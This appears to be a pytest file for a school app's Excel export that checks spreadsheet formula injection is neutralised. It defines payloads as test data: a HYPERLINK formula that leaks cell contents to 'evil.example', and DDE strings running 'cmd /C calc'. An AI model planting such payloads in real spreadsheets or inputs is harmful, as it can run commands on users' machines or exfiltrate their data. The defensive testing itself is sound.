"""Formula injection (issue 14, item 4): text that a spreadsheet could take for a formula is exported as text, by
one rule every .xlsx export goes through (`excel.writer.put`); a formula read from an imported .xlsx is taken as
the value Excel cached and stays text when exported again."""

import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app.cli import main
from app.models import School, Teacher
from app.services.ids import school_id
from app.services.imports.templates import write_kind_template
from hostile_files import roadmap_xlsx, with_cached_formula
from hostile_world import SCHOOL, opened

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE_TEXTS = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # text a spreadsheet may take for a formula
CACHED = '=HYPERLINK("http://evil.example")'  # a formula's value that is itself formula-like text


def kurator(*argv) -> int:
    return main([str(a) for a in argv])


def formula_cells(path: Path) -> list[str]:
    """Every cell of every worksheet stored as a formula (an <f> element)."""
    with zipfile.ZipFile(path) as archive:
        return [f"{name}:{cell}" for name in archive.namelist() if name.startswith("xl/worksheets/")
                for cell in re.findall(r'<c r="([A-Z]+\d+)"[^>]*>(?:(?!</c>).)*<f>', archive.read(name).decode())]


def texts_not_kept_as_text(path: Path) -> list[str]:
    """Formula-like text cells not stored as a string with the quote prefix."""
    book = openpyxl.load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and cell.value.startswith(OWASP_TRIGGERS)
            and not (cell.data_type == "s" and cell.quotePrefix)]


def shown_texts(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)}


@pytest.fixture
def hostile_roadmap(tmp_path) -> Path:
    path = roadmap_xlsx(tmp_path / "hostile.xlsx", len(HOSTILE_TEXTS) + 2, HOSTILE_TEXTS + ["PLACEHOLDER"])
    return with_cached_formula(path, "PLACEHOLDER", '"="&"HYPERLINK(""http://evil.example"")"', CACHED)


def test_a_roadmap_with_formula_like_text_is_exported_as_text(district, hostile_roadmap, tmp_path, capsys):
    assert kurator("--db", district, "roadmap", "import", hostile_roadmap, "--year", "2022", "--json") == 0
    roadmap_id = json.loads(capsys.readouterr().out)["roadmap_id"]
    out = tmp_path / "out.xlsx"
    assert kurator("--db", district, "roadmap", "export", roadmap_id, out) == 0
    assert formula_cells(out) == []
    assert texts_not_kept_as_text(out) == []
    assert {text.strip() for text in HOSTILE_TEXTS} | {CACHED} <= shown_texts(out)  # shown as typed


def test_the_staff_register_and_the_results_template_keep_formula_like_names_as_text(district, tmp_path):
    with opened(district) as database:
        with database.session() as session:
            session.add(Teacher(school_id=school_id(SCHOOL), last_name=DDE, first_name=HYPERLINK))
            session.get(School, school_id(SCHOOL)).name = "@SUM(1+1)*cmd|' /C calc'!A0"
        with database.session() as session:
            write_kind_template(session, "results", tmp_path / "results.xlsx")
    staff = tmp_path / "staff.xlsx"
    assert kurator("--db", district, "report", "excel", "staff", "--year", "2022", "--out", staff) == 0
    for path in (tmp_path / "staff.xlsx", tmp_path / "results.xlsx"):
        assert formula_cells(path) == [] and texts_not_kept_as_text(path) == []
    assert DDE in shown_texts(tmp_path / "staff.xlsx")
    assert "@SUM(1+1)*cmd|' /C calc'!A0" in shown_texts(tmp_path / "results.xlsx")
